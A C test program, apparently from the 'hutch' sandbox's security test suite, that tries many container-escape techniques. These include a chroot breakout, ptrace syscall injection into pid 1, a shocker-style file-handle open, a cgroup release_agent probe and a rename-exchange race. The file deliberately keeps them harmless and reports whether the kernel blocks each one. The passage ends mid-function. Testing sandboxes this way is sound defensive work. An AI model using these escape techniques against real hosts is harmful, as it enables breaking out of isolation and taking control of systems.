/* SPDX-License-Identifier: MIT */
/*
 * attack - escape attempts for tests/security, run inside hutch sandboxes. Static, one file.
 *
 *   attack NAME [ARGS...]
 *
 * Every attempt prints one line "WHAT: OK" when it succeeded, "WHAT: E<NAME>" (e.g.
 * "mount: EPERM") when the kernel refused it, or "WHAT: SIG<NAME>" when the attempt killed
 * the process (a seccomp kill, reported by a parent that forked the attempt). Some commands
 * print more facts as "key: value" lines. Exit status: 0 if every attempt succeeded, 1 if one
 * was refused, 2 on a usage or setup error. `attack help` lists the commands.
 *
 * Arguments are harmless on purpose: should an attempt succeed where it must not, it changes
 * as little as possible (clock set to the current time, reboot's CAD_ON, an existing value
 * written back, files opened but not written, a block device read but never written). And the
 * program refuses to run in the host's pid namespace (ATTACK_ON_HOST=1 overrides).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif
#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
/* every command has the same signature; most ignore their arguments */
#pragma GCC diagnostic ignored "-Wunused-parameter"

#define PROC_PID_INIT_INO 0xEFFFFFFCu /* the initial pid namespace's inode */
#define ETH_P_ALL_BE      0x0300      /* htons(ETH_P_ALL) */

static int failed; /* an attempt was refused: exit 1 */

static const char *errname(int e)
{
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

/* Print "what: OK" or "what: ERRNO"; r is 0 (or a positive result) or -errno. */
static int report(const char *what, long r)
{
    if (r >= 0)
        printf("%s: OK\n", what);
    else
        printf("%s: %s\n", what, errname((int)-r));
    fflush(stdout);
    if (r < 0)
        failed = 1;
    return (int)r;
}

static long neg(long r)
{
    return r < 0 ? -errno : r;
}

static void close_if(long fd)
{
    if (fd >= 0)
        close((int)fd);
}

/* Run fn in a child: an attempt that a seccomp filter kills is reported as "what: SIGSYS". */
static void report_forked(const char *what, long (*fn)(void))
{
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) {
        report(what, -errno);
        return;
    }
    if (p == 0) {
        long r = fn();
        report(what, r);
        _exit(r < 0 ? 1 : 0);
    }
    int st;
    if (waitpid(p, &st, 0) < 0) {
        report(what, -errno);
        return;
    }
    if (WIFSIGNALED(st)) {
        printf("%s: SIG%s\n", what, sigabbrev_np(WTERMSIG(st)) ?: "?");
        fflush(stdout);
        failed = 1;
    } else if (WEXITSTATUS(st) != 0) {
        failed = 1;
    }
}

/* ---------------------------------------------------------------- the mount family */

static int a_mount(int argc, char **argv)
{
    const char *target = argc > 1 ? argv[1] : "/tmp";
    report("mount", neg(syscall(SYS_mount, "none", target, "tmpfs", 0L, NULL)));
    return 0;
}

/* Default target: the read-only bind over /proc/sys; detaching it would make the kernel's knobs
 * writable. */
static int a_umount2(int argc, char **argv)
{
    const char *target = argc > 1 ? argv[1] : "/proc/sys";
    report("umount2", neg(syscall(SYS_umount2, target, (long)MNT_DETACH)));
    return 0;
}

static int a_pivot_root(int argc, char **argv)
{
    if (chdir("/") < 0)
        return report("chdir", -errno), 2;
    report("pivot_root", neg(syscall(SYS_pivot_root, ".", ".")));
    return 0;
}

/* The CVE-2022-0185 door: a filesystem context, then fsconfig on it. */
static int a_fsopen(int argc, char **argv)
{
    const char *type = argc > 1 ? argv[1] : "tmpfs";
    long fd = neg(syscall(SYS_fsopen, type, (long)FSOPEN_CLOEXEC));
    report("fsopen", fd);
    close_if(fd);
    return 0;
}

static int a_fsconfig(int argc, char **argv)
{
    long fd = syscall(SYS_fsopen, "tmpfs", (long)FSOPEN_CLOEXEC);
    /* on a refused fsopen, fsconfig still meets the filter (with a bad fd) */
    report("fsconfig",
           neg(syscall(SYS_fsconfig, fd, (long)FSCONFIG_SET_STRING, "source", "hutch-attack", 0L)));
    close_if(fd);
    return 0;
}

static int a_open_tree(int argc, char **argv)
{
    long fd = neg(
        syscall(SYS_open_tree, (long)AT_FDCWD, "/", (long)(OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)));
    report("open_tree", fd);
    close_if(fd);
    return 0;
}

static int a_move_mount(int argc, char **argv)
{
    report("move_mount",
           neg(syscall(SYS_move_mount, (long)AT_FDCWD, "/proc/kcore", (long)AT_FDCWD, "/tmp", 0L)));
    return 0;
}

/* Clearing read-only from /proc/sys would make the kernel's knobs writable. */
static int a_mount_setattr(int argc, char **argv)
{
    const char *target = argc > 1 ? argv[1] : "/proc/sys";
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    report("mount_setattr",
           neg(syscall(SYS_mount_setattr, (long)AT_FDCWD, target, 0L, &attr, sizeof(attr))));
    return 0;
}

/* The classic chroot breakout: chroot into a subdirectory, climb with "..", chroot there.
 * Succeeds if it ends anywhere but the sandbox's own root. */
static int a_chroot_escape(int argc, char **argv)
{
    struct stat before, after;
    if (stat("/", &before) < 0)
        return report("stat", -errno), 2;
    char dir[] = "/tmp/attack-chroot.XXXXXX";
    if (!mkdtemp(dir))
        return report("mkdtemp", -errno), 2;
    int cwd = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    long r = neg(syscall(SYS_chroot, dir));
    rmdir(dir);
    if (r < 0)
        return report("chroot-escape", r), 0;
    if (fchdir(cwd) < 0) /* a directory fd outside the new root */
        return report("fchdir", -errno), 2;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    r = neg(syscall(SYS_chroot, "."));
    if (r == 0 && stat("/", &after) == 0)
        r = after.st_dev == before.st_dev && after.st_ino == before.st_ino ? -ENOENT : 0;
    printf("chroot-escape: %s\n", r == 0 ? "OK" : "ENOENT (still the sandbox's root)");
    if (r < 0)
        failed = 1;
    return 0;
}

/* ---------------------------------------------------------------- namespaces */

static const struct {
    const char *name;
    long flag;
} ns_flags[] = {
    {"user", CLONE_NEWUSER},     {"mnt", CLONE_NEWNS},    {"net", CLONE_NEWNET},
    {"pid", CLONE_NEWPID},       {"ipc", CLONE_NEWIPC},   {"uts", CLONE_NEWUTS},
    {"cgroup", CLONE_NEWCGROUP}, {"time", CLONE_NEWTIME},
};

static long ns_flag(const char *name)
{
    for (size_t i = 0; i < sizeof(ns_flags) / sizeof(ns_flags[0]); i++)
        if (!strcmp(ns_flags[i].name, name))
            return ns_flags[i].flag;
    return 0;
}

/* unshare [NS...] (default user): each namespace alone, or "user+mnt+cgroup" together. */
static int a_unshare(int argc, char **argv)
{
    char *def[] = {argv[0], "user", NULL};
    if (argc < 2) {
        argv = def;
        argc = 2;
    }
    for (int i = 1; i < argc; i++) {
        long flags = 0;
        char buf[128], *save = NULL;
        snprintf(buf, sizeof(buf), "%s", argv[i]);
        for (char *n = strtok_r(buf, "+", &save); n; n = strtok_r(NULL, "+", &save)) {
            long f = ns_flag(n);
            if (!f)
                return fprintf(stderr, "attack: unknown namespace %s\n", n), 2;
            flags |= f;
        }
        char what[160];
        snprintf(what, sizeof(what), "unshare-%s", argv[i]);
        /* in a child: a success must not change this process */
        fflush(stdout);
        pid_t p = fork();
        if (p == 0)
            _exit(report(what, neg(syscall(SYS_unshare, flags))) < 0);
        int st = 0;
        waitpid(p, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st))
            failed = 1;
    }
    return 0;
}

static int a_clone_newuser(int argc, char **argv)
{
    fflush(stdout);
    long p = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), 0L, 0L, 0L, 0L);
    if (p == 0)
        _exit(0);
    if (p > 0)
        waitpid((pid_t)p, NULL, 0);
    report("clone-newuser", neg(p));
    return 0;
}

static int a_clone3_newuser(int argc, char **argv)
{
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } ca = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0};
    fflush(stdout);
    long p = syscall(SYS_clone3, &ca, sizeof(ca));
    if (p == 0)
        _exit(0);
    if (p > 0)
        waitpid((pid_t)p, NULL, 0);
    report("clone3-newuser", neg(p));
    return 0;
}

/* setns PATH: "setns-open: ERRNO" if the namespace file can not be opened, else "setns: ..". */
static int a_setns(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "/proc/1/ns/mnt";
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return report("setns-open", -errno), 0;
    report("setns", neg(syscall(SYS_setns, (long)fd, 0L)));
    close(fd);
    return 0;
}

/* ---------------------------------------------------------------- kernel interfaces */

static int a_keyctl(int argc, char **argv)
{
    report("keyctl", neg(syscall(SYS_keyctl, (long)KEYCTL_GET_KEYRING_ID,
                                 (long)KEY_SPEC_SESSION_KEYRING, 0L)));
    return 0;
}

static int a_add_key(int argc, char **argv)
{
    report("add_key", neg(syscall(SYS_add_key, "user", "hutch-attack", "x", 1L,
                                  (long)KEY_SPEC_PROCESS_KEYRING)));
    return 0;
}

static int a_request_key(int argc, char **argv)
{
    report("request_key", neg(syscall(SYS_request_key, "user", "hutch-attack-none", NULL,
                                      (long)KEY_SPEC_PROCESS_KEYRING)));
    return 0;
}

static long bpf_call(int cmd, union bpf_attr *attr)
{
    return syscall(SYS_bpf, (long)cmd, attr, sizeof(*attr));
}

static int a_bpf(int argc, char **argv)
{
    struct bpf_insn prog[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof(attr));
    attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    attr.insns = (uintptr_t)prog;
    attr.insn_cnt = 2;
    attr.license = (uintptr_t) "GPL";
    long fd = neg(bpf_call(BPF_PROG_LOAD, &attr));
    report("bpf-prog-load", fd);
    close_if(fd);
    memset(&attr, 0, sizeof(attr));
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    fd = neg(bpf_call(BPF_MAP_CREATE, &attr));
    report("bpf-map-create", fd);
    close_if(fd);
    return 0;
}

/* perf_event_open [self|system]: this process's cpu clock, or every process on cpu 0. */
static int a_perf_event_open(int argc, char **argv)
{
    bool system = argc > 1 && !strcmp(argv[1], "system");
    struct perf_event_attr pa;
    memset(&pa, 0, sizeof(pa));
    pa.size = sizeof(pa);
    pa.type = PERF_TYPE_SOFTWARE;
    pa.config = PERF_COUNT_SW_CPU_CLOCK;
    pa.disabled = 1;
    long fd = neg(syscall(SYS_perf_event_open, &pa, system ? -1L : 0L, system ? 0L : -1L, -1L,
                          (long)PERF_FLAG_FD_CLOEXEC));
    report(system ? "perf_event_open-system" : "perf_event_open", fd);
    close_if(fd);
    return 0;
}

static int a_kexec_load(int argc, char **argv)
{
    report("kexec_load", neg(syscall(SYS_kexec_load, 0L, 0L, NULL, 0L)));
    report("kexec_file_load", neg(syscall(SYS_kexec_file_load, -1L, -1L, 1L, "", 4L)));
    return 0;
}

static int a_init_module(int argc, char **argv)
{
    static const char empty[16];
    report("init_module", neg(syscall(SYS_init_module, empty, sizeof(empty), "")));
    int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    report("finit_module", neg(syscall(SYS_finit_module, (long)fd, "", 0L)));
    if (fd >= 0)
        close(fd);
    report("delete_module", neg(syscall(SYS_delete_module, "hutch_attack_none", (long)O_NONBLOCK)));
    return 0;
}

/* CAD_ON: Ctrl-Alt-Del reboots - already the kernel's default, and in a pid namespace any
 * command but restart/halt/power-off is EINVAL. */
static int a_reboot(int argc, char **argv)
{
    report("reboot", neg(syscall(SYS_reboot, (long)LINUX_REBOOT_MAGIC1, (long)LINUX_REBOOT_MAGIC2,
                                 (long)LINUX_REBOOT_CMD_CAD_ON, NULL)));
    return 0;
}

static int a_swapon(int argc, char **argv)
{
    report("swapon", neg(syscall(SYS_swapon, "/tmp/attack-swap", 0L)));
    report("swapoff", neg(syscall(SYS_swapoff, "/tmp/attack-swap")));
    return 0;
}

/* The clock is set to what it reads now: a success would change (almost) nothing. */
static int a_settime(int argc, char **argv)
{
    struct timeval tv;
    gettimeofday(&tv, NULL);
    report("settimeofday", neg(syscall(SYS_settimeofday, &tv, NULL)));
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    report("clock_settime", neg(syscall(SYS_clock_settime, (long)CLOCK_REALTIME, &ts)));
    struct timex tx;
    memset(&tx, 0, sizeof(tx));
    tx.modes = ADJ_TICK;
    tx.tick = 1000000 / sysconf(_SC_CLK_TCK); /* USER_HZ's nominal tick */
    report("clock_adjtime", neg(syscall(SYS_clock_adjtime, (long)CLOCK_REALTIME, &tx)));
    return 0;
}

/* ---------------------------------------------------------------- file handles ("shocker") */

struct handle128 {
    unsigned int bytes;
    int type;
    unsigned char f[128];
};

/* open_by_handle_at [MOUNTPATH]: the handle of inode 2 (ext4's root) guessed, as in shocker. */
static int a_open_by_handle_at(int argc, char **argv)
{
    const char *mnt = argc > 1 ? argv[1] : "/";
    int mfd = open(mnt, O_RDONLY | O_CLOEXEC);
    if (mfd < 0)
        return report("open", -errno), 2;
    struct handle128 h = {.bytes = 8, .type = 1 /* FILEID_INO32_GEN */};
    uint32_t ino = 2, gen = 0;
    memcpy(h.f, &ino, 4);
    memcpy(h.f + 4, &gen, 4);
    long fd = neg(syscall(SYS_open_by_handle_at, (long)mfd, &h, (long)(O_RDONLY | O_CLOEXEC)));
    report("open_by_handle_at", fd);
    close_if(fd);
    close(mfd);
    return 0;
}

static int a_name_to_handle_at(int argc, char **argv)
{
    struct handle128 h = {.bytes = 128};
    int mount_id;
    report("name_to_handle_at", neg(syscall(SYS_name_to_handle_at, (long)AT_FDCWD,
                                            argc > 1 ? argv[1] : "/", &h, &mount_id, 0L)));
    return 0;
}

/* ---------------------------------------------------------------- other processes */

/* A child that waits on a pipe (no sleep): returns its pid, *wfd keeps it alive. */
static pid_t spawn_waiter(int *wfd)
{
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        return -1;
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        char c;
        close(p[1]);
        while (read(p[0], &c, 1) < 0 && errno == EINTR)
            ;
        _exit(0);
    }
    close(p[0]);
    *wfd = p[1];
    return pid;
}

static void end_waiter(pid_t pid, int wfd)
{
    close(wfd);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, __WALL);
}

/* ptrace [child|init]: PTRACE_ATTACH a forked child, or PTRACE_SEIZE pid 1 (hutch's init:
 * seized, never stopped, so that it keeps running when we exit). */
static int a_ptrace(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "init")) {
        report("ptrace-init", neg(ptrace(PTRACE_SEIZE, 1, NULL, NULL)));
        return 0;
    }
    int wfd;
    pid_t pid = spawn_waiter(&wfd);
    if (pid < 0)
        return report("fork", -errno), 2;
    long r = neg(ptrace(PTRACE_ATTACH, pid, NULL, NULL));
    if (r == 0) {
        int st;
        waitpid(pid, &st, __WALL);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    report("ptrace-child", r);
    end_waiter(pid, wfd);
    return 0;
}

/* ptrace-inject-init: seize hutch's init (pid 1), stop it, make it run one syscall the
 * workload's filter refuses (keyctl: the session keyring's id), restore it and let it go.
 * "inject-keyctl: OK" means code ran as pid 1 outside the seccomp filter. */
static int a_ptrace_inject_init(int argc, char **argv)
{
    if (report("ptrace-init", neg(ptrace(PTRACE_SEIZE, 1, NULL, NULL))) < 0)
        return 0;
    int st;
    if (ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) < 0 || waitpid(1, &st, __WALL) < 0)
        return report("interrupt", -errno), 2;
    struct user_regs_struct saved, regs;
    if (ptrace(PTRACE_GETREGS, 1, NULL, &saved) < 0)
        return report("getregs", -errno), 2;
    /* init waits in sigwaitinfo: the two bytes before rip are its syscall instruction */
    errno = 0;
    long word = ptrace(PTRACE_PEEKTEXT, 1, (void *)(saved.rip - 2), NULL);
    if (errno || (word & 0xffff) != 0x050f) {
        ptrace(PTRACE_DETACH, 1, NULL, NULL);
        return report("find-syscall", -ENOEXEC), 2;
    }
    regs = saved;
    regs.rip = saved.rip - 2;
    regs.orig_rax = (unsigned long long)-1; /* no syscall restart on the way back */
    regs.rax = SYS_keyctl;
    regs.rdi = KEYCTL_GET_KEYRING_ID;
    regs.rsi = (unsigned long long)(long long)KEY_SPEC_SESSION_KEYRING;
    regs.rdx = 0;
    long r = -EIO;
    if (ptrace(PTRACE_SETREGS, 1, NULL, &regs) == 0 &&
        ptrace(PTRACE_SINGLESTEP, 1, NULL, NULL) == 0 && waitpid(1, &st, __WALL) > 0 &&
        ptrace(PTRACE_GETREGS, 1, NULL, &regs) == 0)
        r = (long)regs.rax;
    ptrace(PTRACE_SETREGS, 1, NULL, &saved);
    ptrace(PTRACE_DETACH, 1, NULL, NULL);
    report("inject-keyctl", r < 0 && r > -4096 ? r : 0);
    return 0;
}

/* process_vm_writev [child|init]: write into another process's memory. */
static int a_process_vm_writev(int argc, char **argv)
{
    static volatile char cell = 'a';
    bool init = argc > 1 && !strcmp(argv[1], "init");
    int wfd = -1;
    pid_t pid = init ? 1 : spawn_waiter(&wfd);
    if (pid < 0)
        return report("fork", -errno), 2;
    char b = 'b';
    struct iovec local = {&b, 1}, remote = {(void *)&cell, 1};
    long r = neg(syscall(SYS_process_vm_writev, (long)pid, &local, 1L, &remote, 1L, 0L));
    report(init ? "process_vm_writev-init" : "process_vm_writev-child", r < 0 ? r : 0);
    if (!init)
        end_waiter(pid, wfd);
    return 0;
}

/* ---------------------------------------------------------------- other ABIs */

static long i386_getpid(void)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(20L) : "memory"); /* i386 getpid */
    return r < 0 ? r : 0;
}

static long x32_getpid(void)
{
    return neg(syscall(__X32_SYSCALL_BIT | SYS_getpid));
}

static int a_i386(int argc, char **argv)
{
    report_forked("i386-getpid", i386_getpid);
    return 0;
}

static int a_x32(int argc, char **argv)
{
    report_forked("x32-getpid", x32_getpid);
    return 0;
}

/* ---------------------------------------------------------------- files */

static int open_mode(const char *m)
{
    if (!strcmp(m, "r"))
        return O_RDONLY;
    if (!strcmp(m, "w"))
        return O_WRONLY;
    if (!strcmp(m, "rw"))
        return O_RDWR;
    if (!strcmp(m, "path"))
        return O_PATH;
    if (!strcmp(m, "dir"))
        return O_RDONLY | O_DIRECTORY;
    if (!strcmp(m, "create"))
        return O_WRONLY | O_CREAT | O_EXCL;
    return -1;
}

/* open PATH [r|w|rw|path|dir|create]: opened, never written (a created file is removed). */
static int a_open(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: open PATH [MODE]\n"), 2;
    int m = open_mode(argc > 2 ? argv[2] : "r");
    if (m < 0)
        return fprintf(stderr, "attack: unknown open mode\n"), 2;
    long fd = neg(open(argv[1], m | O_CLOEXEC | O_NOCTTY | O_NONBLOCK, 0600));
    report("open", fd);
    if (fd >= 0 && (m & O_CREAT))
        unlink(argv[1]);
    close_if(fd);
    return 0;
}

/* read PATH: "read: OK" and "bytes: N" (up to 16 MiB) */
static int a_read(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: read PATH\n"), 2;
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd < 0)
        return report("read", -errno), 0;
    static char buf[65536];
    long total = 0, n = 0;
    while (total < (16L << 20) && (n = read(fd, buf, sizeof(buf))) > 0)
        total += n;
    report("read", n < 0 ? -errno : 0);
    printf("bytes: %ld\n", total);
    close(fd);
    return 0;
}

/* write-same PATH: write back what the file holds (a success changes nothing). */
static int a_write_same(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: write-same PATH\n"), 2;
    char buf[4096];
    long n = 0;
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        n = read(fd, buf, sizeof(buf));
        close(fd);
    }
    if (n < 0)
        n = 0;
    fd = open(argv[1], O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd < 0)
        return report("write", -errno), 0;
    long r = n > 0 ? neg(write(fd, buf, (size_t)n)) : 0;
    report("write", r);
    close(fd);
    return 0;
}

static int a_mkdir(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "/tmp/attack-dir";
    long r = neg(syscall(SYS_mkdir, path, 0755L));
    report("mkdir", r);
    if (r == 0)
        rmdir(path);
    return 0;
}

static int a_mkdirat(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "/tmp/attack-dir";
    long r = neg(syscall(SYS_mkdirat, (long)AT_FDCWD, path, 0755L));
    report("mkdirat", r);
    if (r == 0)
        rmdir(path);
    return 0;
}

/* mknod-open PATH b|c MAJOR MINOR: make a device node, open it read-only, read 512 bytes.
 * Never written; removed again. */
static int a_mknod_open(int argc, char **argv)
{
    if (argc < 5 || (strcmp(argv[2], "b") && strcmp(argv[2], "c")))
        return fprintf(stderr, "attack: mknod-open PATH b|c MAJOR MINOR\n"), 2;
    mode_t type = argv[2][0] == 'b' ? S_IFBLK : S_IFCHR;
    dev_t dev = makedev(strtoul(argv[3], NULL, 0), strtoul(argv[4], NULL, 0));
    long r = neg(syscall(SYS_mknodat, (long)AT_FDCWD, argv[1], (long)(type | 0600), (long)dev));
    report("mknod", r);
    if (r < 0 && r != -EEXIST)
        return 0;
    int fd = open(argv[1], O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    report("open-dev", fd < 0 ? -errno : 0);
    if (fd >= 0) {
        static char buf[512];
        report("read-dev", neg(read(fd, buf, sizeof(buf))));
        close(fd);
    }
    if (r == 0)
        unlink(argv[1]);
    return 0;
}

/* swap-loop DIR: swap DIR/a (a directory) and DIR/l (a symlink to /) with RENAME_EXCHANGE
 * until DIR/stop exists: runc's CVE-2021-30465 race against a mount through DIR/a. */
static int a_swap_loop(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: swap-loop DIR\n"), 2;
    char a[4096], l[4096], stop[4096];
    snprintf(a, sizeof(a), "%s/a", argv[1]);
    snprintf(l, sizeof(l), "%s/l", argv[1]);
    snprintf(stop, sizeof(stop), "%s/stop", argv[1]);
    if ((mkdir(a, 0755) < 0 && errno != EEXIST) || (symlink("/", l) < 0 && errno != EEXIST))
        return report("swap-loop", -errno), 2;
    long n = 0, r = 0;
    while (access(stop, F_OK) < 0)
        for (int i = 0; i < 64 && r == 0; i++, n++)
            r = neg(syscall(SYS_renameat2, (long)AT_FDCWD, a, (long)AT_FDCWD, l,
                            (long)RENAME_EXCHANGE));
    report("swap-loop", r);
    printf("swaps: %ld\n", n);
    return 0;
}

/* ---------------------------------------------------------------- cgroups (CVE-2022-0492) */

static int write_str(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    int r = write(fd, text, strlen(text)) < 0 ? -errno : 0;
    close(fd);
    return r;
}

/* The CVE-2022-0492 set-up: a user, mount and cgroup namespace of our own, root mapped to
 * ourselves. Reported as one "unshare-user+mnt+cgroup" line. */
static int enter_own_userns(void)
{
    uid_t uid = geteuid();
    gid_t gid = getegid();
    int r =
        report("unshare-user+mnt+cgroup",
               neg(syscall(SYS_unshare, (long)(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))));
    if (r < 0)
        return r;
    char map[64];
    snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)uid);
    write_str("/proc/self/setgroups", "deny");
    if ((r = write_str("/proc/self/uid_map", map)) < 0)
        return report("uid_map", r);
    snprintf(map, sizeof(map), "0 %u 1\n", (unsigned)gid);
    if ((r = write_str("/proc/self/gid_map", map)) < 0)
        return report("gid_map", r);
    return 0;
}

/* cgroup-mount [userns]: mount a cgroup v2 and v1 hierarchies (with userns: in a user
 * namespace of our own, the hierarchies the host has); on a success, write release_agent's own
 * content back to it (a success changes nothing but proves the escape) and unmount again. */
static int a_cgroup_mount(int argc, char **argv)
{
    static const char *const opts[] = {NULL,      "memory",  "pids",
                                       "freezer", "devices", "none,name=systemd"};
    bool userns = argc > 1 && !strcmp(argv[1], "userns");
    if (userns && enter_own_userns() < 0)
        return 0;
    char dir[] = "/tmp/attack-cg.XXXXXX";
    if (!mkdtemp(dir))
        return report("mkdtemp", -errno), 2;
    for (size_t i = 0; i < sizeof(opts) / sizeof(opts[0]); i++) {
        char what[64];
        snprintf(what, sizeof(what), "mount-cgroup%s%s", opts[i] ? "-" : "2",
                 opts[i] ? opts[i] : "");
        long r =
            neg(syscall(SYS_mount, "cgroup", dir, opts[i] ? "cgroup" : "cgroup2", 0L, opts[i]));
        report(what, r);
        if (r < 0)
            continue;
        if (opts[i]) {
            char ra[128], old[4096];
            snprintf(ra, sizeof(ra), "%s/release_agent", dir);
            int fd = open(ra, O_RDONLY | O_CLOEXEC);
            long n = fd < 0 ? -1 : read(fd, old, sizeof(old) - 1);
            if (fd >= 0)
                close(fd);
            old[n > 0 ? n : 0] = '\0';
            report("release_agent", write_str(ra, n > 0 ? old : "\n"));
        }
        umount2(dir, MNT_DETACH);
    }
    long fd = neg(syscall(SYS_fsopen, "cgroup", (long)FSOPEN_CLOEXEC));
    report("fsopen-cgroup", fd);
    close_if(fd);
    rmdir(dir);
    return 0;
}

/* ---------------------------------------------------------------- fds and directories */

/* fds: this process's open fds (the listing's own excluded), then each one's target. */
static int a_fds(int argc, char **argv)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return report("fds", -errno), 2;
    int self = dirfd(d), fds[256], n = 0;
    struct dirent *e;
    while ((e = readdir(d)) && n < 256)
        if (e->d_name[0] != '.' && atoi(e->d_name) != self)
            fds[n++] = atoi(e->d_name);
    closedir(d);
    printf("fds:");
    for (int i = 0; i < n; i++)
        printf(" %d", fds[i]);
    printf("\n");
    for (int i = 0; i < n; i++) {
        char p[64], t[4096];
        snprintf(p, sizeof(p), "/proc/self/fd/%d", fds[i]);
        ssize_t l = readlink(p, t, sizeof(t) - 1);
        t[l < 0 ? 0 : l] = '\0';
        printf("fd %d: %s\n", fds[i], l < 0 ? errname(errno) : t);
    }
    char cwd[4096];
    printf("cwd: %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : errname(errno));
    fflush(stdout);
    return 0;
}

/* dirfd-scan: every fd of every process we can see; a directory fd other than our own
 * listing's is a handle on a tree ("dirfd: OK PID/FD TARGET"); none: "dirfd: ENOENT". */
static int a_dirfd_scan(int argc, char **argv)
{
    DIR *procs = opendir("/proc");
    if (!procs)
        return report("dirfd", -errno), 2;
    int found = 0;
    struct dirent *pe;
    while ((pe = readdir(procs))) {
        if (pe->d_name[0] < '0' || pe->d_name[0] > '9')
            continue;
        char fdp[300];
        snprintf(fdp, sizeof(fdp), "/proc/%s/fd", pe->d_name);
        DIR *fds = opendir(fdp);
        if (!fds) {
            printf("fd-dir %s: %s\n", fdp, errname(errno));
            continue;
        }
        bool mine = atoi(pe->d_name) == getpid();
        struct dirent *fe;
        while ((fe = readdir(fds))) {
            if (fe->d_name[0] == '.')
                continue;
            if (mine && (atoi(fe->d_name) == dirfd(fds) || atoi(fe->d_name) == dirfd(procs)))
                continue;
            char p[600], t[4096];
            struct stat st;
            snprintf(p, sizeof(p), "%s/%s", fdp, fe->d_name);
            ssize_t l = readlink(p, t, sizeof(t) - 1);
            t[l < 0 ? 0 : l] = '\0';
            if (stat(p, &st) < 0) {
                printf("fd %s/%s: %s\n", pe->d_name, fe->d_name, errname(errno));
                continue;
            }
            if (S_ISDIR(st.st_mode)) {
                printf("dirfd: OK %s/%s %s\n", pe->d_name, fe->d_name, t);
                found = 1;
            }
        }
        closedir(fds);
    }
    closedir(procs);
    if (!found) {
        printf("dirfd: ENOENT\n");
        failed = 1;
    }
    fflush(stdout);
    return 0;
}

/* ls PATH: a directory's entries ("ls: OK", "entries: a b c") */
static int a_ls(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: ls DIR\n"), 2;
    DIR *d = opendir(argv[1]);
    if (!d)
        return report("ls", -errno), 0;
    errno = 0;
    struct dirent *e;
    char line[8192] = "";
    size_t len = 0;
    while ((e = readdir(d)))
        if (e->d_name[0] != '.' && len < sizeof(line) - 300)
            len += (size_t)snprintf(line + len, sizeof(line) - len, " %s", e->d_name);
    report("ls", errno ? -errno : 0);
    printf("entries:%s\n", line);
    closedir(d);
    return 0;
}

/* readlink PATH */
static int a_readlink(int argc, char **argv)
{
    if (argc < 2)
        return fprintf(stderr, "attack: readlink PATH\n"), 2;
    char t[4096];
    ssize_t l = readlink(argv[1], t, sizeof(t) - 1);
    report("readlink", l < 0 ? -errno : 0);
    if (l >= 0)
        printf("target: %.*s\n", (int)l, t);
    return 0;
}

/* ---------------------------------------------------------------- terminals */

/* tiocsti [FD [TEXT]] / tiocsti-hi: push TEXT into the terminal's input queue, the second with
 * high bits in the 64-bit request (CVE-2019-10063; the kernel takes an unsigned int). */
static int tiocsti(int argc, char **argv, bool hi)
{
    int fd = argc > 1 ? atoi(argv[1]) : 0;
    const char *text = argc > 2 ? argv[2] : "true\n";
